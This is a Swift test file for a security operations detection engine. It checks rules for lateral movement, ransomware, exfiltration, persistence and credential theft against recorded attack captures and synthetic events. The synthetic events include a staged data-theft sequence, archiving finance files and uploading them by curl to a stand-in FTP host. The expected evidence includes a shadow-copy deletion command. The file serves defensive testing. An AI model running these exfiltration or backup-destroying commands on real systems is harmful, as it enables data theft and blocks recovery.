import Foundation
import SOCDetection
import SOCModel
import SOCParsers
import SOCTestSupport
import Testing

/// Reads captures under ../shared/data and runs the behaviour engine over them.
enum BehaviourData {
    static let options = ParseContext.Options(referenceTime: Timestamp(year: 2026, month: 1, day: 1)!)

    /// The events of one file under ../shared/data.
    static func events(_ sample: String) throws -> [SecurityEvent] {
        let data = try #require(SharedFiles.data)
        var reader = try EventFileReader(path: data + "/" + sample, options: options)
        var events: [SecurityEvent] = []
        while let batch = try reader.nextBatch() { events += batch }
        return events
    }

    /// The hits over the files under ../shared/data, fed page by page.
    static func hits(_ samples: [String], rules: [BehaviourRule] = BehaviourRule.all) throws -> [BehaviourHit] {
        let data = try #require(SharedFiles.data)
        var engine = BehaviourEngine(rules: rules)
        for sample in samples {
            var reader = try EventFileReader(path: data + "/" + sample, options: options)
            while let batch = try reader.nextBatch(maximumCount: 256) { engine.observe(batch) }
        }
        return engine.finish()
    }

    static func hits(_ sample: String, rule: BehaviourRule) throws -> [BehaviourHit] {
        try hits([sample]).filter { $0.rule == rule }
    }

    /// Benign data: the Winlogbeat goldens and the Filebeat auth log (elastic-beats-testdata) and the Sentinel and
    /// MSTIC exports (azure-sentinel-samples).
    static func benignFiles() throws -> [String] {
        let data = try #require(SharedFiles.data)
        var files: [String] = []
        for folder in ["elastic-beats-testdata", "azure-sentinel-samples"] {
            let paths = try FileManager.default.subpathsOfDirectory(atPath: data + "/" + folder).sorted()
            for path in paths where [".json", ".jsonl", ".log", ".txt"].contains(where: path.hasSuffix) {
                guard !path.hasSuffix("SOURCE.md"), !path.contains("original_csv") else { continue }
                files.append(folder + "/" + path)
            }
        }
        return files
    }

    /// The rows of a manifest.csv: each capture's path and ATT&CK tactic.
    static func manifest(_ dataset: String) throws -> [(path: String, tactic: String)] {
        let data = try #require(SharedFiles.data)
        let text = try String(contentsOfFile: data + "/" + dataset + "/manifest.csv", encoding: .utf8)
        var rows: [(String, String)] = []
        for line in text.split(whereSeparator: \.isNewline).dropFirst() {  // CRLF lines
            let fields = csvFields(line)
            guard fields.count > 2 else { continue }
            rows.append((dataset + "/" + fields[0], fields[2]))
        }
        return rows
    }

    private static func csvFields(_ line: Substring) -> [String] {
        var fields: [String] = []
        var current = ""
        var quoted = false
        var previous: Character = " "
        for character in line {
            if character == "\"" {
                if quoted, previous == "\"" { current.append("\"") }
                quoted.toggle()
            } else if character == ",", !quoted {
                fields.append(current)
                current = ""
            } else {
                current.append(character)
            }
            previous = character
        }
        fields.append(current)
        return fields
    }
}

/// Each behaviour rule on a named real capture (or, where the data set has none, a labelled synthetic event), and
/// not on benign data.
@Suite(.enabled(if: SharedFiles.data != nil, "needs ../shared/data or SOCAGENT_TEST_DATA"))
struct BehaviourRuleTests {
    // MARK: - Lateral movement

    @Test func logonFanOutFiresOnPurpleSharpPlaybook() throws {
        let hits = try BehaviourData.hits(
            "otrf-security-datasets/jsonl_gz/lateral_movement/purplesharp_ad_playbook_I.jsonl.gz",
            rule: .logonFanOut
        )
        let hit = try #require(hits.first { $0.addresses.contains("172.18.39.5") })
        #expect(
            Set(hit.hosts).isSuperset(of: [
                "MORDORDC.theshire.local", "WORKSTATION6.theshire.local", "WORKSTATION7.theshire.local",
            ])
        )
        #expect(hit.users.contains("pgustavo"))
        #expect(hit.rule.severity == .high)
        #expect(hits.count == 1)
    }

    @Test func logonFanOutStaysQuietOnOneHostsLogons() throws {
        // One target host only: remote task update over four network logons (evtx-attack-samples).
        let hits = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Lateral Movement/remote task update 4624 4702 same logonid.jsonl",
            rule: .logonFanOut
        )
        #expect(hits.isEmpty)
    }

    @Test func remoteServiceInstallFiresOnPsExecOverAdminShare() throws {
        let hits = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/TA0008-Lateral Movement/T1021.002-SMB Windows Admin Shares/"
                + "ID4688,4697,5140-5145 PSexec remote execution + admin share.jsonl",
            rule: .remoteServiceInstall
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["srvdefender01.offsec.lan"])
        #expect(hit.users.contains("admmig"))
        #expect(hit.addresses == ["10.23.42.22"])
        #expect(hit.processes.contains("%SystemRoot%\\PSEXESVC.exe"))
    }

    @Test func aServiceWithoutALogonIsANewServiceNotARemoteOne() throws {
        let sample =
            "evtx-to-mitre-attack/jsonl/TA0003-Persistence/T1543.003-Create or Modify System Process-Windows Service/"
            + "ID7045-Random service installation.jsonl"
        let hits = try BehaviourData.hits([sample])
        #expect(!hits.contains { $0.rule == .remoteServiceInstall })
        let hit = try #require(hits.first { $0.rule == .newService })
        #expect(hit.hosts == ["fs02.offsec.lan"])
        #expect(hit.processes == ["virusé.exe"])
        #expect(hit.rule.severity == .medium)
    }

    @Test func psexecFiresOnItsServicePipes() throws {
        let hits = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.jsonl",
            rule: .psexec
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["fs03vuln.offsec.lan"])
        #expect(hit.count >= 8)  // seven PSEXESVC pipe events and the shell it started
        #expect(hit.evidence.contains { $0.contains("PSEXESVC-FS03VULN-2124-stdin") })
    }

    @Test func psexecFiresOnARenamedServicesPipes() throws {
        let hits = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Defense Evasion/DE_renamed_psexec_service_sysmon_17_18.jsonl",
            rule: .psexec
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["MSEDGEWIN10"])
        #expect(hit.count == 6)  // the stdin/stdout/stderr triple, created and connected
    }

    @Test func psexecFiresOnARenamedServicesPipesThroughIPCShare() throws {
        let hits = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Lateral Movement/LM_renamed_psexecsvc_5145.jsonl",
            rule: .psexec
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["IEWIN7"])
        #expect(hit.users == ["IEUser"])
        #expect(hit.addresses == ["10.0.2.16"])
        #expect(hit.count == 3)
    }

    @Test func psexecFiresOnItsServiceInstall() throws {
        let hits = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/TA0003-Persistence/T1543.003-Create or Modify System Process-Windows Service/"
                + "ID7045-7036 PSexec service installation.jsonl",
            rule: .psexec
        )
        #expect(hits.first?.hosts == ["jump01.offsec.lan"])
    }

    @Test func wmiRemoteExecutionFiresOnImpacketWmiexec() throws {
        let hits = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Lateral Movement/LM_wmiexec_impacket_sysmon_whoami.jsonl",
            rule: .wmiRemoteExecution
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["IEWIN7"])
        #expect(hit.users == ["IEUser"])
        #expect(hit.count == 3)
        #expect(hit.processes.contains { $0.contains("whoami /all") })
    }

    @Test func winRMExecutionFiresOnWinRSAndPSRemoting() throws {
        let winrs = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Lateral Movement/LM_winrm_exec_sysmon_1_winrshost.jsonl",
            rule: .winRMExecution
        )
        #expect(winrs.first?.hosts == ["DC1.insecurebank.local"])
        #expect(winrs.first?.users == ["Administrator"])
        let remoting = try BehaviourData.hits(
            "otrf-security-datasets/jsonl_gz/lateral_movement/empire_psremoting_stager.jsonl.gz",
            rule: .winRMExecution
        )
        #expect(remoting.first?.hosts == ["WORKSTATION6.theshire.local"])
        #expect(remoting.first?.users.contains("pgustavo") == true)
    }

    // MARK: - Ransomware

    @Test func shadowCopyDeletionFiresOnPowerShellAndWbadmin() throws {
        let powerShell = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/TA0040-Impact/T1490-Inhibit System Recovery/"
                + "ID800-4103-4104-Delete VSS backup (PowerShell).jsonl",
            rule: .shadowCopyDeletion
        )
        #expect(powerShell.first?.hosts == ["FS03.offsec.lan"])
        #expect(powerShell.first?.rule.severity == .critical)
        let wbadmin = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/TA0040-Impact/T1490-Inhibit System Recovery/"
                + "ID4688-Delete Window backup (webadmin).jsonl",
            rule: .shadowCopyDeletion
        )
        #expect(wbadmin.first?.hosts == ["FS03.offsec.lan"])
        #expect(wbadmin.first?.users == ["admmig"])
    }

    @Test func shadowCopyDeletionAndBootTamperingFireOnAtomicRedTeam() throws {
        let hits = try BehaviourData.hits([
            "evtx-attack-samples/jsonl/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.jsonl"
        ])
        let shadow = try #require(hits.first { $0.rule == .shadowCopyDeletion })
        #expect(shadow.hosts == ["MSEDGEWIN10"])
        #expect(shadow.users == ["IEUser"])
        #expect(shadow.processes.contains { $0.contains("vssadmin.exe  delete shadows /all /quiet") })
        let boot = try #require(hits.first { $0.rule == .bootConfigurationTampering })
        #expect(boot.hosts == ["MSEDGEWIN10"])
        #expect(boot.count == 4)  // cmd /c and bcdedit itself, for recoveryenabled and bootstatuspolicy
        // Creating and listing shadow copies is not deleting them.
        let listing = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Execution/sysmon_exec_from_vss_persistence.jsonl",
            rule: .shadowCopyDeletion
        )
        #expect(listing.isEmpty)
    }

    /// SYNTHETIC: no capture in ../shared/data encrypts files, so the events are made here. 60 files renamed to
    /// `.lockbit` by one program in a minute fire; 60 `.tmp` files do not.
    @Test func massFileEncryptionFiresOnSyntheticRenames() {
        func writes(_ extension: String) -> [SecurityEvent] {
            (0..<60).map { index in
                Synthetic.event(
                    "file-created",
                    at: index,
                    [
                        ECSField.eventCode: "11", ECSField.hostName: "FIN-PC07", ECSField.userName: "bob",
                        ECSField.processExecutable: "C:\\Users\\bob\\AppData\\Local\\Temp\\locker.exe",
                        ECSField.filePath: "C:\\Users\\bob\\Documents\\report\(index).docx.\(`extension`)",
                    ]
                )
            }
        }
        var engine = BehaviourEngine()
        engine.observe(writes("lockbit"))
        let hit = engine.finish().first { $0.rule == .massFileEncryption }
        #expect(hit?.hosts == ["FIN-PC07"])
        #expect(hit?.count == 60)
        #expect(hit?.eventIDs.count == BehaviourHit.maxEventIDs)
        var quiet = BehaviourEngine()
        quiet.observe(writes("tmp"))
        #expect(quiet.finish().isEmpty)
    }

    // MARK: - Exfiltration

    /// SYNTHETIC: the shared data has no flow records with byte counts (no Packetbeat data was collected), so the
    /// flows are made here: 3 × 40 MB to one public address within an hour fire; to a private address they do not.
    @Test func largeOutboundTransferFiresOnSyntheticFlows() {
        func flows(to destination: String) -> [SecurityEvent] {
            (0..<3).map { index in
                Synthetic.event(
                    "network_flow",
                    at: index * 600,
                    [
                        ECSField.eventCategory: "network", ECSField.hostName: "FS01",
                        ECSField.sourceIP: "10.1.2.3", ECSField.destinationIP: destination,
                        ECSField.destinationPort: "443",
                    ],
                    integers: ["source.bytes": 40_000_000, "destination.bytes": 20_000]
                )
            }
        }
        var engine = BehaviourEngine()
        engine.observe(flows(to: "203.0.113.50"))
        let hit = engine.finish().first { $0.rule == .largeOutboundTransfer }
        #expect(hit?.addresses == ["10.1.2.3", "203.0.113.50"])
        #expect(hit?.count == 3)
        var inside = BehaviourEngine()
        inside.observe(flows(to: "10.9.9.9"))
        #expect(inside.finish().isEmpty)
    }

    /// SYNTHETIC: no capture archives and uploads, so the events are made here: `7z a` then `curl -T` on one host.
    @Test func archiveThenUploadFiresOnSyntheticCommands() {
        let archive = Synthetic.event(
            "process-created",
            at: 0,
            [
                ECSField.eventCategory: "process", ECSField.hostName: "FS01", ECSField.userName: "bob",
                ECSField.processExecutable: "C:\\Tools\\7z.exe",
                ECSField.processCommandLine: "7z.exe a -pS3cret C:\\Users\\bob\\loot.7z D:\\Finance",
            ]
        )
        let upload = Synthetic.event(
            "process-created",
            at: 300,
            [
                ECSField.eventCategory: "process", ECSField.hostName: "FS01", ECSField.userName: "bob",
                ECSField.processExecutable: "C:\\Windows\\System32\\curl.exe",
                ECSField.processCommandLine: "curl.exe -T C:\\Users\\bob\\loot.7z ftp://198.51.100.9/drop/",
            ]
        )
        var engine = BehaviourEngine()
        engine.observe([upload])  // pages out of order
        engine.observe([archive])
        let hit = engine.finish().first { $0.rule == .archiveThenUpload }
        #expect(hit?.hosts == ["FS01"])
        #expect(hit?.count == 2)
        var uploadOnly = BehaviourEngine()
        uploadOnly.observe([upload])
        #expect(uploadOnly.finish().isEmpty)
        // An archive made for a UAC bypass (makecab of a DLL) and no upload after it.
        let makecab = try? BehaviourData.hits(
            ["evtx-attack-samples/jsonl/Privilege Escalation/sysmon_1_7_11_migwiz.jsonl"],
            rules: [.archiveThenUpload]
        )
        #expect(makecab?.isEmpty == true)
    }

    // MARK: - Persistence

    @Test func serviceRunningShellFiresOnSMBexec() throws {
        let hits = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/TA0003-Persistence/T1543.003-Create or Modify System Process-Windows Service/"
                + "ID7045-4697-SMBexec service registration.jsonl",
            rule: .serviceRunningShell
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["rootdc1.offsec.lan"])
        #expect(hit.users.contains("admmig"))
        #expect(hit.count == 2)  // the System 7045 and the Security 4697 of one install
    }

    @Test func scheduledTaskFiresOnFortinetAPTSteps() throws {
        let hits = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/EVTX_full_APT_attack_steps/ID4720,4698-Fortinet APT group abuse on Windows.jsonl",
            rule: .scheduledTask
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["fs01.offsec.lan"])
        #expect(hit.users == ["admmig"])
        #expect(hit.evidence.first?.contains("SynchronizeTimeZone") == true)
    }

    @Test func scheduledTaskFiresOnSchtasksCreate() throws {
        let hits = try BehaviourData.hits(
            "otrf-security-datasets/jsonl_gz/persistence/empire_schtasks_creation_standard_user.jsonl.gz",
            rule: .scheduledTask
        )
        #expect(!hits.isEmpty)
    }

    @Test func registryAutostartFiresOnARunKey() throws {
        let hits = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/AutomatedTestingTools/Malware/sideloading_injection_persistence_run_key.jsonl",
            rule: .registryAutostart
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["MSEDGEWIN10"])
        #expect(hit.processes == ["C:\\Users\\Public\\tools\\apt\\tendyron.exe"])
    }

    @Test func privilegedGroupMemberFiresOnAdministratorsNotUsers() throws {
        let hits = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/TA0003-Persistence/T1098.xxx-Account manipulation/"
                + "ID4732-User added to local admin groups.jsonl",
            rule: .privilegedGroupMember
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["jump01.offsec.lan"])
        #expect(hit.users.first == "admmig")
        #expect(hit.count == 2)  // Administrators and Backup Operators; Users is not privileged
        #expect(hit.rule.severity == .high)
    }

    @Test func newAccountFiresOnAdminLikeUser() throws {
        let hits = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/TA0003-Persistence/T1136-Create account/ID4720-Admin like user created.jsonl",
            rule: .newAccount
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["rootdc1.offsec.lan"])
        #expect(hit.users == ["lambda-user", "admin-kriss"])
    }

    // MARK: - Defence evasion

    @Test func auditLogClearedFiresOnSystem104AndSecurity1102() throws {
        let system = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Defense Evasion/DE_104_system_log_cleared.jsonl",
            rule: .auditLogCleared
        )
        #expect(system.first?.hosts == ["PC01.example.corp"])
        #expect(system.first?.users == ["user01"])
        let security = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Credential Access/kerberos_pwd_spray_4771.jsonl",
            rule: .auditLogCleared
        )
        #expect(security.count == 1)
    }

    // MARK: - Credential access

    @Test func lsassAccessFiresOnMimikatzNotOnSystemReaders() throws {
        let hits = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Credential Access/sysmon_10_lsass_mimikatz_sekurlsa_logonpasswords.jsonl",
            rule: .lsassAccess
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["PC04.example.corp"])
        #expect(hit.processes == ["C:\\Users\\IEUser\\Desktop\\mimikatz_trunk\\Win32\\mimikatz.exe"])
        #expect(hit.evidence.first?.contains("0x1010") == true)
        #expect(hit.rule.severity == .critical)
        // VBoxService and svchost open LSASS with query rights hundreds of times in this capture.
        let quiet = try BehaviourData.hits(
            "otrf-security-datasets/jsonl_gz/defense_evasion/auditpol_system_user_auditpolicy_modification.jsonl.gz",
            rule: .lsassAccess
        )
        #expect(quiet.isEmpty)
    }

    @Test func dcSyncFiresOnAUserAccountNotADomainController() throws {
        let hits = try BehaviourData.hits(
            "evtx-attack-samples/jsonl/Credential Access/CA_DCSync_4662.jsonl",
            rule: .dcSync
        )
        let hit = try #require(hits.first)
        #expect(hit.hosts == ["DC1.insecurebank.local"])
        #expect(hit.users == ["Administrator"])
        #expect(hit.count == 3)
        // Replication between domain controllers (ROOTDC2$) is the same right, asked for by a machine account.
        let replication = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/TA0006-Credential Access/T1555-Credentials from Password Stores/"
                + "ID4662-Sensitve DPAPI attributes accessed.jsonl",
            rule: .dcSync
        )
        #expect(replication.isEmpty)
    }

    @Test func kerberoastingFiresOnPurpleSharpNotOnAESTickets() throws {
        let hits = try BehaviourData.hits(
            "otrf-security-datasets/jsonl_gz/lateral_movement/purplesharp_ad_playbook_I.jsonl.gz",
            rule: .kerberoasting
        )
        let hit = try #require(hits.first)
        #expect(hit.users == ["pgustavo"])
        #expect(hit.hosts == ["MORDORDC.theshire.local"])
        #expect(hit.addresses == ["172.18.39.5"])
        #expect(hit.count == 5)
        let aes = try BehaviourData.hits(
            "evtx-to-mitre-attack/jsonl/TA0006-Credential Access/T1558-Steal or Forge Kerberos Tickets/"
                + "ID4769-Golden ticket issued.jsonl",
            rule: .kerberoasting
        )
        #expect(aes.isEmpty)
    }

    // MARK: - The engine

    @Test func everyRuleIsWellFormed() {
        #expect(Set(BehaviourRule.all.map(\.id)).count == BehaviourRule.all.count)
        for rule in BehaviourRule.all {
            #expect(rule.id.hasPrefix("behaviour."))
            #expect(!rule.techniques.isEmpty)
            #expect(rule.techniques.allSatisfy { $0.hasPrefix("T1") })
            #expect(BehaviourRule.rule(id: rule.id) == rule)
        }
        #expect(Set(BehaviourRule.all.map(\.category)) == Set(BehaviourCategory.allCases))
    }

    @Test func hitsRoundTripThroughJSON() throws {
        let hits = try BehaviourData.hits(["evtx-attack-samples/jsonl/Credential Access/CA_DCSync_4662.jsonl"])
        let data = try JSONEncoder().encode(hits)
        let text = try #require(String(data: data, encoding: .utf8))
        #expect(text.contains("\"first_seen\":\"20"))
        #expect(try JSONDecoder().decode([BehaviourHit].self, from: data) == hits)
    }

    @Test func pagesInAnyOrderGiveTheSameHits() throws {
        let events = try BehaviourData.events(
            "otrf-security-datasets/jsonl_gz/lateral_movement/purplesharp_ad_playbook_I.jsonl.gz"
        )
        var forward = BehaviourEngine()
        forward.observe(events)
        var backward = BehaviourEngine()
        for page in stride(from: events.count, to: 0, by: -100) {
            backward.observe(Array(events[max(0, page - 100)..<page].reversed()))
        }
        let expected = forward.finish()
        #expect(!expected.isEmpty)
        #expect(backward.finish().map(\.rule.id) == expected.map(\.rule.id))
        #expect(backward.finish().map(\.count) == expected.map(\.count))
    }

    @Test func stateStaysWithinItsBounds() {
        var limits = BehaviourEngine.Limits()
        limits.maxGroups = 10
        var engine = BehaviourEngine(limits: limits)
        engine.observe(
            (0..<50).map { index in
                Synthetic.event(
                    "audit-log-cleared",
                    at: index,
                    [ECSField.eventCode: "1102", ECSField.hostName: "host\(index)", ECSField.userName: "eve"]
                )
            }
        )
        #expect(engine.finish().count == 10)
        #expect(engine.droppedObservations == 40)
    }

    @Test func benignDataGivesFewHits() throws {
        var total = 0
        for file in try BehaviourData.benignFiles() {
            guard let hits = try? BehaviourData.hits([file]) else {
                print("benign: \(file): not read")
                continue
            }
            total += hits.count
            for hit in hits {
                print("benign: \(file): \(hit.rule.id) \(hit.rule.severity) hosts=\(hit.hosts) users=\(hit.users)")
            }
        }
        print("benign: \(total) behaviour hits")
        #expect(total <= 4)
    }

    /// Prints, per ATT&CK tactic of the manifests, how many captures get at least one behaviour hit.
    @Test func captureCoverageByTactic() throws {
        var captures: [String: Int] = [:]
        var covered: [String: Int] = [:]
        var beyondLogClearing: [String: Int] = [:]
        var rules: [String: Int] = [:]
        for dataset in ["evtx-attack-samples", "evtx-to-mitre-attack"] {
            for row in try BehaviourData.manifest(dataset) where !row.path.contains("/jsonl/Antivirus/") {
                let tactic = row.tactic.isEmpty ? "(none)" : row.tactic
                captures[tactic, default: 0] += 1
                let hits = try BehaviourData.hits([row.path])
                if !hits.isEmpty { covered[tactic, default: 0] += 1 }
                // Many captures begin with the recorder clearing the Security log: count coverage without it too.
                if hits.contains(where: { $0.rule != .auditLogCleared }) { beyondLogClearing[tactic, default: 0] += 1 }
                for id in Set(hits.map(\.rule.id)) { rules[id, default: 0] += 1 }
                if ProcessInfo.processInfo.environment["SOCAGENT_BEHAVIOUR_LIST"] != nil {
                    print("capture: \(tactic) | \(row.path) | \(Set(hits.map(\.rule.id)).sorted())")
                }
            }
        }
        for tactic in captures.keys.sorted() {
            print(
                "coverage: \(tactic): \(covered[tactic] ?? 0) of \(captures[tactic] ?? 0) captures"
                    + " (\(beyondLogClearing[tactic] ?? 0) with a hit other than a cleared log)"
            )
        }
        print(
            "coverage: all: \(covered.values.reduce(0, +)) of \(captures.values.reduce(0, +)) captures"
                + " (\(beyondLogClearing.values.reduce(0, +)) with a hit other than a cleared log)"
        )
        for (id, count) in rules.sorted(by: { $0.key < $1.key }) { print("coverage: \(id): \(count) captures") }
        #expect((covered["Lateral Movement"] ?? 0) >= 10)
        #expect((covered["Persistence"] ?? 0) >= 15)
        #expect((covered["Credential Access"] ?? 0) >= 10)
        #expect((covered["Impact"] ?? 0) >= 1)
    }
}

/// Events made in the tests, for rules the shared data has no capture of. Each is marked SYNTHETIC where used.
enum Synthetic {
    static func event(
        _ action: String,
        at second: Int,
        _ fields: [String: String],
        integers: [String: Int64] = [:]
    ) -> SecurityEvent {
        let original = "synthetic \(action) \(second) \(fields.sorted { $0.key < $1.key })"
        var event = SecurityEvent(
            id: EventIdentifier(record: original),
            timestamp: Timestamp(year: 2026, month: 3, day: 2, hour: 10)?.adding(
                microseconds: Int64(second) * 1_000_000
            ),
            original: original
        )
        event[ECSField.eventAction] = .string(action)
        for (field, value) in fields {
            event[field] = field == ECSField.eventCategory ? .strings([value]) : .string(value)
        }
        for (field, value) in integers { event[field] = .integer(value) }
        return event
    }
}
